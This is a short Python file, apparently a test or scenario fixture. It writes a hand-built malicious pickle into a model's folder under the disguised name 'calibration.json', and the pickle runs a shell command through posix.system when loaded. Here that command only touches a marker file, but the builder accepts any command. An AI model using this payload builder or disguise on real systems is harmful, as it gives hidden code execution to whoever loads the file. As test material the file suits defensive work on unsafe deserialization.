"""The story's hidden pickle: one that works, under the name of something harmless.

It is written opcode by opcode, so that nobody who makes it needs a module that can load one.
"""

import struct
from pathlib import Path

NAME = "calibration.json"
IMPORT = "posix.system"


def hide(folder: Path, mark: Path) -> str:
    """Put a pickle into a model's folder that makes the file `mark` when loaded; its name."""
    (folder / NAME).write_bytes(pickled(f"touch {mark}"))
    (folder / NAME).chmod(0o644)
    return NAME


def pickled(command: str) -> bytes:
    """A pickle (protocol 2) that gives a command to the shell of whoever loads it."""
    text = command.encode()
    imported = "c{}\n{}\n".format(*IMPORT.split(".")).encode()
    return b"\x80\x02" + imported + b"X" + struct.pack("<I", len(text)) + text + b"\x85R."
